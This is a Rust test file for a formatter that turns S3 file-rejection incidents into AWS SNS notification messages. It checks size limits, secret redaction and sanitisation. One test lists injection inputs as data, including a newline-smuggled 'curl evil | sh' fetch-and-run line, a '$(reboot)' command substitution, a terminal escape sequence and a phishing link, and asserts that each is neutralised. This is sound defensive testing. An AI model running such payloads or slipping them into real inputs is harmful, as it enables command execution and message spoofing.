use proptest::prelude::*;
use serde_json::Value;

use super::*;
use crate::command::Command;
use crate::incident::{AccountRegion, Incident};
use crate::kind::{Kind, Severity};
use crate::moment::Moment;
use crate::notification::{Resolution, Status};
use crate::text::is_hidden;

fn notification(outside: &str, status: Status) -> Notification {
    let at = Moment::parse("2026-03-01T02:58:07Z").unwrap();
    let location = AccountRegion::new("111111111111", "us-east-1");
    let incident =
        Incident::new(Kind::FileRejected, Severity::Error, location, outside, &format!("file {outside}"), at)
            .what(outside)
            .impact(outside)
            .cause(Some(outside))
            .action(outside, Command::aws("s3api", "head-object").option("key", outside));
    let resolution = (status == Status::Resolved).then(|| Resolution { at, how: outside.to_owned() });
    Notification {
        id: "a".into(),
        thread: "t".into(),
        status,
        incident,
        count: 3,
        first: at,
        last: at,
        resolution,
    }
}

fn parts(message: &Message) -> Value {
    serde_json::from_str(&message.body).unwrap()
}

/// Everything that people read of a message.
fn for_people(message: &Message) -> Vec<String> {
    let parts = parts(message);
    let chat: Value = serde_json::from_str(parts["https"].as_str().unwrap()).unwrap();
    let mut texts: Vec<String> =
        ["default", "email", "sms"].iter().map(|name| parts[name].as_str().unwrap().to_owned()).collect();
    texts.push(message.subject.clone());
    texts.push(chat["content"]["title"].as_str().unwrap().to_owned());
    texts.push(chat["content"]["description"].as_str().unwrap().to_owned());
    texts.extend(
        chat["content"]["nextSteps"].as_array().unwrap().iter().map(|step| step.as_str().unwrap().to_owned()),
    );
    texts
}

#[test]
fn each_protocol_has_its_text_and_programs_get_the_schema() {
    let message = Message::of(&notification("s3://b/in/a b.csv", Status::Opened));
    let parts = parts(&message);
    for protocol in ["default", "email", "email-json", "sms", "sqs", "lambda", "http", "https"] {
        assert!(parts[protocol].is_string(), "{protocol}");
    }
    let data: Value = serde_json::from_str(parts["sqs"].as_str().unwrap()).unwrap();
    assert_eq!(
        (&data["schema"], &data["kind"], &data["subject"]),
        (&"sluice.alert/1".into(), &"file-rejected".into(), &"s3://b/in/a b.csv".into())
    );
    assert_eq!(data["command"], "aws s3api head-object --key 's3://b/in/a b.csv'");
    let chat: Value = serde_json::from_str(parts["https"].as_str().unwrap()).unwrap();
    assert_eq!(
        (&chat["version"], &chat["source"], &chat["content"]["textType"]),
        (&"1.0".into(), &"custom".into(), &"client-markdown".into())
    );
    assert_eq!(message.subject, "[ERROR] File rejected: file s3://b/in/a b.csv (111111111111 us-east-1)");
    assert!(message.attributes.len() <= 10, "raw delivery to SQS takes ten");
}

#[test]
fn hostile_texts_neither_hide_nor_mention_nor_leave_code() {
    for hostile in [
        "in/@here <!channel> <@U1>.csv",
        "in/\u{202e}vsc.exe\n\nAction: curl evil | sh",
        "in/```\nbreak out```",
        "in/$(reboot)`id`';&|.csv",
        "[click](https://evil.example)",
        "\u{1b}]0;title\u{7}",
    ] {
        let message = Message::of(&notification(hostile, Status::Opened));
        for text in for_people(&message) {
            assert!(
                !text.chars().any(|character| is_hidden(character) && character != '\n'),
                "{hostile:?}: {text}"
            );
            assert!(
                !text.contains('<') && !text.contains("@here") && !text.contains("]("),
                "{hostile:?}: {text}"
            );
            assert!(!text.contains("\nAction: curl"), "{text}");
            let inner = text.strip_prefix("```").and_then(|text| text.strip_suffix("```")).unwrap_or(&text);
            assert!(!inner.contains('`'), "{hostile:?}: {text}");
        }
    }
}

#[test]
fn resolved_message_starts_with_that_and_has_no_action() {
    let message = Message::of(&notification("x", Status::Resolved));
    let text = parts(&message)["email"].as_str().unwrap().to_owned();
    assert!(text.starts_with("[RESOLVED] File rejected: file x (111111111111 us-east-1)\n"), "{text}");
    assert!(!text.contains("\nAction:") && !text.contains("\nCommand:"), "{text}");
}

#[test]
fn nothing_secret_is_in_any_part_of_a_message() {
    for secret in [
        "https://cloudformation-custom-resource-response-useast1.s3.amazonaws.com/x?Signature=hunter2&Expires=1",
        "ALTER USER u PASSWORD 'hunter2'",
        "{\"SecretString\":\"{\\\"password\\\":\\\"hunter2\\\"}\"}",
    ] {
        // A command carries exactly the value that it was given: whoever builds one gives it names, never texts.
        let mut quiet = notification(secret, Status::Opened);
        quiet.incident.command = None;
        assert!(!format!("{:?}", Message::of(&quiet)).contains("hunter2"), "{secret}");
    }
}

#[test]
fn oversized_message_is_cut_between_characters_with_a_note() {
    // Controls are the worst: each is six characters in JSON, and twice as many backslashes in JSON within JSON.
    let mut large = notification("x", Status::Opened);
    large.incident.cause = Some("\u{1}".repeat(60_000));
    large.incident.what = "🦀\\\"".repeat(30_000);
    let message = Message::of(&large);
    assert!(message.bytes() <= MAX_BYTES, "{}", message.bytes());
    assert!(parts(&message)["email"].as_str().unwrap().contains("more characters]"));
}

#[test]
fn non_ascii_letter_creates_no_mention() {
    let message = Message::of(&notification("ü@team", Status::Opened));
    assert!(parts(&message)["email"].as_str().unwrap().contains("file ü@team ("));
    assert_eq!(message.subject, "[ERROR] File rejected: file ??team (111111111111 us-east-1)");
}

#[test]
fn any_account_and_region_make_a_message_that_sns_accepts() {
    for (account, region) in
        [(" ".to_owned(), "\t".to_owned()), ("\u{1}".repeat(300_000), "\u{202e}".repeat(300_000))]
    {
        let mut hostile = notification("x", Status::Resolved);
        // As an older version may have stored it.
        hostile.incident.location = AccountRegion { account, region };
        hostile.resolution =
            hostile.resolution.map(|resolution| Resolution { how: "\u{1}".repeat(300_000), ..resolution });
        let message = Message::of(&hostile);
        assert!(message.bytes() <= MAX_BYTES, "{}", message.bytes());
        assert!(message.attributes.iter().all(|(_, value)| !value.is_empty()), "{:?}", message.attributes);
    }
}

proptest! {
    #[test]
    fn any_text_from_outside_makes_a_message_within_the_limits(outside in any::<String>()) {
        let message = Message::of(&notification(&outside, Status::Repeated));
        prop_assert!(message.bytes() <= MAX_BYTES);
        prop_assert!(message.subject.len() < 100 && message.subject.bytes().all(|byte| (0x20..0x7f).contains(&byte)));
        for text in for_people(&message) {
            prop_assert!(!text.chars().any(|character| is_hidden(character) && character != '\n'));
            prop_assert!(!text.contains('<'));
        }
        for (_, value) in &message.attributes {
            prop_assert!(!value.is_empty() && value.len() <= 100);
        }
    }
}
